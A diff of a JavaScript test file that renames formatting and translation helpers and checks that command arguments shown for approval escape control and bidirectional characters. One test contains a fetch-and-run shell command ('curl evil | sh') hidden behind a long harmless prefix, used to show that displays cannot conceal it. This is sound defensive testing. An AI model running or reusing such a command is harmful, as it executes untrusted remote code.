@@ -1,12 +1,12 @@
-// The receipt line and the words of numbers: the same as the terminal's, from the same file of samples.
+// Tests of receipt.js, format.js and texts.js. The terminal uses the same samples.
 
 import assert from "node:assert/strict";
 import { readFileSync } from "node:fs";
 import { test } from "node:test";
 
 import { amendmentLines, heldLine, receiptLine } from "../js/receipt.js";
-import { ago, counted, t, useTexts } from "../js/texts.js";
-import { argumentLine, callInFull, inFull, millis, oneLine, size } from "../js/words.js";
+import { ago, t, tPlural, useTexts } from "../js/texts.js";
+import { argumentLine, callArgumentLines, escapeInvisible, millis, oneLine, size } from "../js/format.js";
 
 const read = (name) => JSON.parse(readFileSync(new URL(name, import.meta.url), "utf8"));
 const table = read("../texts.json");
@@ -19,7 +19,7 @@ for (const { name, receipt, line, amendments = [] } of read("./receipt-lines.jso
   });
 }
 
-test("what is still held is named, shortly", () => {
+test("held resources are listed briefly", () => {
   const process = (pid) => ({ kind: "process", label: "sleep 600", pid });
   assert.equal(heldLine([process(1), { kind: "permit", label: "in-flight run" }]), "process 1 (sleep 600)");
   assert.equal(heldLine([{ kind: "model_request", label: "demo/chat", releasedAt: {} }]), "");
@@ -29,7 +29,7 @@ test("what is still held is named, shortly", () => {
   );
 });
 
-test("lengths of time", () => {
+test("durations", () => {
   const words = [
     [0, "0 ms"],
     [0.04, "<0.1 ms"],
@@ -87,21 +87,21 @@ test("how long ago, in three languages", () => {
   useTexts(table, "en");
 });
 
-test("texts: values are put in, a missing key shows itself", () => {
+test("texts: values are filled in, a missing key is shown", () => {
   assert.equal(
     t("stop.failed", { reason: "{x} $& $1" }),
-    "Could not stop: {x} $& $1. What runs goes on; press Esc to try again.",
+    "Could not stop: {x} $& $1. The run goes on; press Esc to try again.",
   );
   assert.equal(t("no.such.key"), "no.such.key");
-  assert.equal(counted("sessions.turns", 1), "1 turn");
+  assert.equal(tPlural("sessions.turns", 1), "1 turn");
 });
 
-test("foreign text cannot hide or turn a line around", () => {
+test("control and bidirectional characters are escaped", () => {
   assert.equal(oneLine("ls\n\t\u001b[2Jx\u009by  z", 40), "ls [2Jx y z");
   assert.equal(oneLine("ünïcödé text", 6), "ünïcö…");
-  assert.equal(inFull("ls\u001b[2J \u202efr mr\rx\ny"), "ls\\u{1b}[2J \\u{202e}fr mr\\rx\ny");
+  assert.equal(escapeInvisible("ls\u001b[2J \u202efr mr\rx\ny"), "ls\\u{1b}[2J \\u{202e}fr mr\\rx\ny");
   const command = `echo ${"harmless ".repeat(50)}; curl evil | sh`;
-  assert.deepEqual(callInFull({ background: true, command, env: { A: 1 }, input: "one\ntwo" }), [
+  assert.deepEqual(callArgumentLines({ background: true, command, env: { A: 1 }, input: "one\ntwo" }), [
     "background: true",
     `command: ${command}`,
     'env: {"A":1}',
@@ -109,19 +109,19 @@ test("foreign text cannot hide or turn a line around", () => {
     "  | one",
     "  | two",
   ]);
-  assert.deepEqual(callInFull("x"), ['"x"']);
+  assert.deepEqual(callArgumentLines("x"), ['"x"']);
 });
 
-test("what somebody decides about is shown whole, in the same words as in the terminal", () => {
+test("arguments of approvals are complete, as in the terminal", () => {
   const samples = JSON.parse(readFileSync(new URL("in-full.json", import.meta.url), "utf8"));
   assert.ok(samples.length > 5);
   for (const { arguments: given, lines } of samples) {
-    assert.deepEqual(callInFull(given), lines);
+    assert.deepEqual(callArgumentLines(given), lines);
   }
   for (let code = 0; code < 0x110000; code += 1) {
     const sign = String.fromCodePoint(code);
     if (/[\p{Default_Ignorable_Code_Point}\p{Cf}\p{Cc}\p{Zl}\p{Zp}]/u.test(sign) && sign !== "\n") {
-      assert.notEqual(inFull(sign), sign, `U+${code.toString(16)}`);
+      assert.notEqual(escapeInvisible(sign), sign, `U+${code.toString(16)}`);
     }
   }
 });
